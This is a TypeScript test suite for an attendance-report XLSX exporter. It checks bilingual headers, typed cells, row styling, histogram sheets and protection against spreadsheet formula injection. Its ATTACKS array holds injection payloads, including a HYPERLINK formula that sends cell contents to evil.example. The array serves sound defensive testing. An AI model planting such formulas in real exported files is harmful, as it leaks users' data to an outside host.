import { execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { writeXlsx, XLSX_HEADER_ROW } from '../../dashboard/reports/export/index.js';
import type { ReportRow } from '../../dashboard/reports/report-table.js';
import { BufferSink, HISTOGRAM, requireCommand, SAMPLE_ROWS, sampleTable } from './report-export-fixture.js';

const ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', '+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1'];

async function xlsxOf(rows: ReportRow[], language: 'en' | 'zh-HK' | 'both' = 'both'): Promise<Buffer> {
  const out = new BufferSink();
  await writeXlsx(sampleTable(rows, { charts: [HISTOGRAM] }), out, { language });
  return out.bytes();
}

async function load(bytes: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
  return workbook;
}

function sheet(workbook: ExcelJS.Workbook, index: number): ExcelJS.Worksheet {
  const found = workbook.worksheets[index];
  if (!found) throw new Error(`no sheet ${index}`);
  return found;
}

const dataRow = (rowIndex: number): number => XLSX_HEADER_ROW + 1 + rowIndex;

describe('XLSX export', () => {
  it('writes title, bold headers and typed values that read back as written, Chinese intact', async () => {
    const workbook = await load(await xlsxOf(SAMPLE_ROWS));
    expect(workbook.worksheets.map((ws) => ws.name)).toEqual(['Report 報表', 'Chart 1 圖表 1']);
    const report = sheet(workbook, 0);
    expect(report.getCell(1, 1).value).toBe('Daily attendance 每日出勤');
    expect(report.getCell(2, 1).value).toBe('Mong Kok, 2024-03-04 旺角，2024-03-04');

    const header = report.getRow(XLSX_HEADER_ROW);
    expect(header.values).toEqual([undefined, 'Employee no. 員工編號', 'Name 姓名', 'Date 日期', 'In 上班', 'Late (min) 遲到（分鐘）', 'Hours 工時', 'Punches 打卡次數', 'Status 狀態']);
    header.eachCell((cell) => expect(cell.font?.bold).toBe(true));

    const first = report.getRow(dataRow(0));
    expect(first.getCell(1).value).toBe('E001');
    expect(first.getCell(2).value).toBe('陳大文');
    expect(report.getCell(dataRow(1), 2).value).toBe('黃嘉欣');
    expect(first.getCell(3).value).toEqual(new Date(Date.UTC(2024, 2, 4)));
    expect(first.getCell(3).numFmt).toBe('yyyy-mm-dd');
    // A time of day is a fraction of a day; exceljs reads a time-formatted one back as a date on 1899-12-30.
    expect(first.getCell(4).value).toEqual(new Date(Date.UTC(1899, 11, 30, 8, 55)));
    expect(first.getCell(4).numFmt).toBe('hh:mm');
    expect(first.getCell(5).value).toBe(-5);
    expect(first.getCell(5).type).toBe(ExcelJS.ValueType.Number);
    expect(first.getCell(6).value).toBe(8.5);
    expect(first.getCell(6).numFmt).toBe('0.00');
    expect(first.getCell(7).value).toBe(2);
    expect(report.getCell(dataRow(2), 2).value).toBe('Chan, Tai Man "Danny"');
    // Line breaks become Excel's LF, shown wrapped (XML would turn a CR into LF on reading anyway).
    expect(report.getCell(dataRow(3), 2).value).toBe('Line one\nline two\nthree');
    expect(report.getCell(dataRow(3), 2).alignment?.wrapText).toBe(true);
  });

  it('freezes the rows down to the header and puts a filter on it', async () => {
    const report = sheet(await load(await xlsxOf(SAMPLE_ROWS)), 0);
    expect(report.views[0]).toMatchObject({ state: 'frozen', ySplit: XLSX_HEADER_ROW });
    expect(report.autoFilter).toBe('A3:H3');
  });

  it('fills exception and warning rows across, keeps their status text, and leaves normal rows plain', async () => {
    const report = sheet(await load(await xlsxOf(SAMPLE_ROWS)), 0);
    const fillOf = (row: number, column: number): string | undefined => {
      const fill = report.getCell(row, column).fill;
      return fill?.type === 'pattern' ? fill.fgColor?.argb : undefined;
    };
    for (let column = 1; column <= 8; column += 1) {
      expect(fillOf(dataRow(1), column)).toBe('FFF4C7C3');
      expect(report.getCell(dataRow(1), column).font?.bold).toBe(true);
      expect(fillOf(dataRow(2), column)).toBe('FFFFF2CC');
      expect(fillOf(dataRow(0), column)).toBeUndefined();
    }
    expect(report.getCell(dataRow(1), 8).value).toBe('Late 遲到');
    expect(report.getCell(dataRow(2), 8).value).toBe('Grace 寬限');
  });

  it('stores formula-looking text as quoted strings, and no cell anywhere is a formula', async () => {
    const rows: ReportRow[] = ATTACKS.map((name, index) => ({ cells: { no: `X${index}`, name, late: -(index + 1), status: name } }));
    const bytes = await xlsxOf(rows, 'en');
    const workbook = await load(bytes);
    const report = sheet(workbook, 0);
    ATTACKS.forEach((attack, index) => {
      for (const column of [2, 8]) {
        const cell = report.getCell(dataRow(index), column);
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(cell.value).toBe(`'${attack.replace('\r', '\n')}`);
      }
      expect(report.getCell(dataRow(index), 5).value).toBe(-(index + 1));
    });
    for (const ws of workbook.worksheets) {
      ws.eachRow({ includeEmpty: false }, (row) =>
        row.eachCell({ includeEmpty: false }, (cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.formula).toBeUndefined();
        }),
      );
    }
    // And in the file itself: no <f> element in any sheet's XML.
    requireCommand('unzip', 'unzip');
    const dir = mkdtempSync(path.join(tmpdir(), 'punchgate-xlsx-'));
    const file = path.join(dir, 'report.xlsx');
    writeFileSync(file, bytes);
    const xml = execFileSync('unzip', ['-p', file, 'xl/worksheets/*.xml']).toString('utf8');
    expect(xml).toContain('HYPERLINK');
    expect(xml).not.toMatch(/<f[\s>]/);
  });

  it('renders a missing cell empty, not "undefined"', async () => {
    const report = sheet(await load(await xlsxOf([{ cells: { no: 'E009' } }], 'en')), 0);
    const row = report.getRow(dataRow(0));
    expect(row.getCell(1).value).toBe('E009');
    for (let column = 2; column <= 8; column += 1) expect(row.getCell(column).value).toBeNull();
  });

  it('puts each arrival histogram on its own sheet as numbers with a character bar and the shift start marked', async () => {
    const chart = sheet(await load(await xlsxOf([], 'en')), 1);
    expect(chart.name).toBe('Chart 1');
    expect(chart.getCell(1, 1).value).toBe('Mong Kok, shift starting 09:00');
    expect(chart.getRow(3).values).toEqual([undefined, 'Arrived from', 'Minutes from shift start', 'Arrivals', 'Bar', 'Shift start']);
    const rows = HISTOGRAM.buckets.map((_, index) => chart.getRow(4 + index));
    expect(rows.map((row) => row.getCell(1).value)).toEqual(HISTOGRAM.buckets.map((bucket) => bucket.label));
    expect(rows.map((row) => row.getCell(2).value)).toEqual(HISTOGRAM.buckets.map((bucket) => bucket.offsetMinutes));
    expect(rows.map((row) => row.getCell(3).value)).toEqual(HISTOGRAM.buckets.map((bucket) => bucket.count));
    // The tallest bucket has the full bar; an empty one none.
    expect(rows[4]?.getCell(4).value).toBe('█'.repeat(30));
    expect(rows[11]?.getCell(4).value).toBeNull();
    const marked = rows.filter((row) => String(row.getCell(5).value ?? '').includes('Shift start'));
    expect(marked.map((row) => row.getCell(1).value)).toEqual(['09:00']);
  });
});
